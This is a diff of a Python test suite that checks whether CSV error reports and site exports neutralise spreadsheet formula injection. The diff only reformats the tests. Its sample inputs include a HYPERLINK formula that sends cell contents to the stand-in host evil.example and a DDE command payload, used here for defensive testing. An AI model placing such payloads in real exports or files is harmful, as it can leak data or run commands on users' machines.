@@ -19,8 +19,15 @@ from siting.uploads import services as uploads
 from tests.siting.upload_helpers import boundaries, user  # noqa: F401
 from tests.support.world import scored_world_create
 
-ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
-           "\uff1d1+1"]
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",
+]
 
 
 class CellTests:
@@ -56,10 +63,14 @@ def _no_formula(rows: list[list[str]]) -> None:
 
 class ExportTests:
     def test_it_neutralises_the_upload_error_report(self):
-        text = uploads.errors_csv([RowError(2, "name", "=HYPERLINK(\"http://evil.example\")", "x"),
-                                   RowError(3, "area_ha", "-5", "must be greater than 0")])
+        text = uploads.errors_csv(
+            [
+                RowError(2, "name", '=HYPERLINK("http://evil.example")', "x"),
+                RowError(3, "area_ha", "-5", "must be greater than 0"),
+            ]
+        )
         rows = _read(text)
-        assert rows[1][2] == "'=HYPERLINK(\"http://evil.example\")"
+        assert rows[1][2] == '\'=HYPERLINK("http://evil.example")'
         assert rows[2][2] == "-5"  # a rejected negative number stays a number
         _no_formula(rows)
 
@@ -76,14 +87,14 @@ class ExportTests:
             url = f"/api/runs/{run.code}/sites/?size=1000&format=csv"
             first = list(csv.DictReader(io.StringIO(client.get(url).content.decode())))[0]
             site = Site.objects.get(id=int(first["site_id"]))
-            Site.objects.filter(id=site.id).update(name="=HYPERLINK(\"http://evil.example/\"&A1)", municipality="@SUM(1)")
+            Site.objects.filter(id=site.id).update(name='=HYPERLINK("http://evil.example/"&A1)', municipality="@SUM(1)")
             dashboard.caches_clear()
             resp = client.get(url)
             assert resp.status_code == 200
             body = b"".join(resp.streaming_content).decode() if resp.streaming else resp.content.decode()
             rows = list(csv.DictReader(io.StringIO(body)))
             mine = [r for r in rows if int(r["site_id"]) == site.id][0]
-            assert mine["site_name"] == "'=HYPERLINK(\"http://evil.example/\"&A1)"
+            assert mine["site_name"] == '\'=HYPERLINK("http://evil.example/"&A1)'
             assert mine["municipality"] == "'@SUM(1)"
             assert float(mine["score"]) >= 0 and float(mine["longitude"]) == pytest.approx(site.longitude, abs=1e-6)
             _no_formula(_read(body))
